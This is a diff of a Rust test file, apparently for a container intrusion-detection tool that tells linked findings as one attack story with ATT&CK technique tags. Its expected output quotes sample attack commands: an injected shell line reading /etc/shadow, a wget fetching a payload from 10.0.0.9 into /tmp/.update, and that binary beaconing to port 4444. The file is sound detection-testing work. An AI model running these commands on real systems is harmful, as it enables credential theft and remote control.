@@ -111,18 +111,18 @@ fn an_attack_beside_honest_requests_is_one_story_that_holds_none_of_them() {
         story,
         expect![[r#"
             CRITICAL: `sh` below `netcheck` in container `shop`: initial access, execution, discovery, credential access, command and control and defense evasion
-            From 2025-11-24T18:02:03.000000000Z for 0.1 s.
+            From 2025-11-24T18:02:03.000000000Z for 70 ms.
 
             Where it began
               `netcheck` (pid 12) started `sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …` (pid 100) in container `shop` (image `shop:1`) on node `n4`.
 
             What it did
-               1. 18:02:03.000 server_ran_a_shell (`sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …` (pid 100)). [T1059.004 Unix Shell, T1190 Exploit Public-Facing Application] (e-00000000000000070001000000000064)
-               2. 18:02:03.011 system_explored (`uname -a` (pid 101)). [T1082 System Information Discovery] (e-00000000000000070001000000000065)
-               3. 18:02:03.025 password_hashes_read (`cat /etc/shadow` (pid 102)). [T1003.008 /etc/passwd and /etc/shadow] (e-00000000000000070000000000000401)
-               4. 18:02:03.040 tool_fetched (`wget -q -O /tmp/.update http://10.0.0.9:8000/beacon` (pid 103)). [T1105 Ingress Tool Transfer] (e-00000000000000070000000000000410)
-               5. 18:02:03.061 dropped_binary_executed (`/tmp/.update 10.0.0.9 4444` (pid 105)). [T1036.005 Match Legitimate Resource Name or Location, T1059 Command and Scripting Interpreter] (e-00000000000000070001000000000069)
-               6. 18:02:03.070 dropped_binary_connected (`/tmp/.update 10.0.0.9 4444` (pid 105), peer `10.0.0.9:4444`). [T1071 Application Layer Protocol, T1571 Non-Standard Port] (e-0000000000000007000000000000042e)
+               1. 18:02:03.000 server_ran_a_shell (`sh -c ping -c 1 -W 1 127.0.0.1; id; cat /etc/shadow; …`, pid 100). [T1059.004 Unix Shell, T1190 Exploit Public-Facing Application] (e-00000000000000070001000000000064)
+               2. 18:02:03.011 system_explored (`uname -a`, pid 101). [T1082 System Information Discovery] (e-00000000000000070001000000000065)
+               3. 18:02:03.025 password_hashes_read (`cat /etc/shadow`, pid 102). [T1003.008 /etc/passwd and /etc/shadow] (e-00000000000000070000000000000401)
+               4. 18:02:03.040 tool_fetched (`wget -q -O /tmp/.update http://10.0.0.9:8000/beacon`, pid 103). [T1105 Ingress Tool Transfer] (e-00000000000000070000000000000410)
+               5. 18:02:03.061 dropped_binary_executed (`/tmp/.update 10.0.0.9 4444`, pid 105). [T1036.005 Match Legitimate Resource Name or Location, T1059 Command and Scripting Interpreter] (e-00000000000000070001000000000069)
+               6. 18:02:03.070 dropped_binary_connected (`/tmp/.update 10.0.0.9 4444`, pid 105, peer `10.0.0.9:4444`). [T1071 Application Layer Protocol, T1571 Non-Standard Port] (e-0000000000000007000000000000042e)
 
             Why this is one attack
               Steps 2, 3, 4 and 5: caused by step 1.
@@ -329,7 +329,7 @@ fn the_same_in_the_same_minute_is_one_step_that_says_so() {
     findings.push(again);
     let story = told(&findings).pop().unwrap();
     assert_eq!((story.steps.len(), story.steps_untold), (6, 1));
-    expect!["password_hashes_read (`cat /etc/shadow` (pid 102)). Once more in the same minute."]
+    expect!["password_hashes_read (`cat /etc/shadow`, pid 102). Once more in the same minute."]
         .assert_eq(&story.steps[2].sentence);
 }
 
@@ -357,4 +357,19 @@ fn small_findings_make_room_before_an_open_story_does() {
     let counts = stories.counts();
     assert_eq!((counts.stories_open, counts.stories_evicted), (1, 0));
     assert_eq!(counts.findings_kept, 20);
+}
+
+#[test]
+fn a_story_that_loses_a_step_to_late_evidence_is_told_again_without_it() {
+    const HOURS_MS: u64 = 2 * 3_600_000;
+    let (shell, server) = (process(100, "sh", "sh", 0), process(1, "server", "", 0));
+    let found = Sample::new("shell", 1).priority(Priority::Notice);
+    let found = found.lineage(&[shell.clone(), server.clone()]).at(0).about_start().finding();
+    let ran = alone("ran", 200, HOURS_MS).priority(Priority::Critical).peer("10.0.0.9:81");
+    let tool = process(300, "tool", "tool", HOURS_MS);
+    let called = Sample::new("called", 1).peer("10.0.0.9:82").lineage(&[tool, shell, server]);
+    let stories = last(&[ran.finding(), called.at(HOURS_MS + 60_000).finding(), found]);
+    let mut told: Vec<_> = stories.iter().map(rules).collect();
+    told.sort_unstable();
+    assert_eq!(told, [vec!["ran"], vec!["shell", "called"]]);
 }
